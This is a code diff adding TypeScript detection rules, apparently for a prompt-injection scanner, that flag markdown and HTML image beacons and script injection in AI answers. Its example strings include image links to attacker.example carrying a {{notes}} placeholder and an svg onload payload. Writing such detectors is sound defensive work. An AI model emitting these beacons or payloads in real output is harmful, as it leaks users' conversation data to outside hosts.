@@ -1,0 +1,48 @@
+import type { Rule } from "./rule.ts";
+
+/** Markup that carries data out by itself. */
+export const SHAPE_RULES: readonly Rule[] = [
+  {
+    id: "shape.image-beacon-placeholder",
+    type: "context_manipulation",
+    threat: "high",
+    confidence: 0.75,
+    languages: [],
+    shape: {
+      triggers: ["!["],
+      pattern:
+        /!\[[^\]\n]{0,80}\]\(<?(?:https?:)?\/\/[^)\s]{1,200}[?&/#][^)\s]{0,100}(?:\{\{?[^)]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|<[a-z_ ]{2,30}>|%7b|(?:[?&](?:data|secret|d|q|log|exfil|c|leak|token|key|info|p|payload|query|text|conversation|history|notes)=[^)\s&]{0,100}))/,
+    },
+    example: "![logo](https://attacker.example/p.png?q={{notes}})",
+    nearMiss: "![logo](https://example.org/logo.png)",
+  },
+  {
+    id: "shape.image-tag-beacon",
+    type: "context_manipulation",
+    threat: "high",
+    confidence: 0.75,
+    languages: [],
+    shape: {
+      triggers: ["<img"],
+      pattern:
+        /<img\b[^>]{0,200}\bsrc\s{0,3}=\s{0,3}["']?(?:https?:)?\/\/[^"'\s>]{1,200}[?&/#][^"'\s>]{0,100}(?:\{\{?[^"'>]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|(?:[?&](?:data|secret|d|q|log|exfil|c|leak|token|key|info|payload|conversation|history|notes)=))/,
+    },
+    example: '<img src="https://attacker.example/p.png?q={{notes}}">',
+    nearMiss: '<img src="https://example.org/logo.png" width="40">',
+  },
+  {
+    id: "shape.script-in-answer",
+    type: "context_manipulation",
+    threat: "medium",
+    confidence: 0.5,
+    languages: [],
+    structural: true,
+    shape: {
+      triggers: ["<svg", "javascript:", "onerror=", "onload="],
+      pattern:
+        /(?:<svg\b[^>]{0,60}\bonload\s{0,2}=|javascript:[^\s"']{0,10}(?:fetch|alert|eval|document|console)|on(?:error|load)=["']?(?:fetch|alert|eval|document|console|new image))/,
+    },
+    example: "<svg/onload='console.log(1)'>",
+    nearMiss: "The svg element has no onload by default.",
+  },
+];
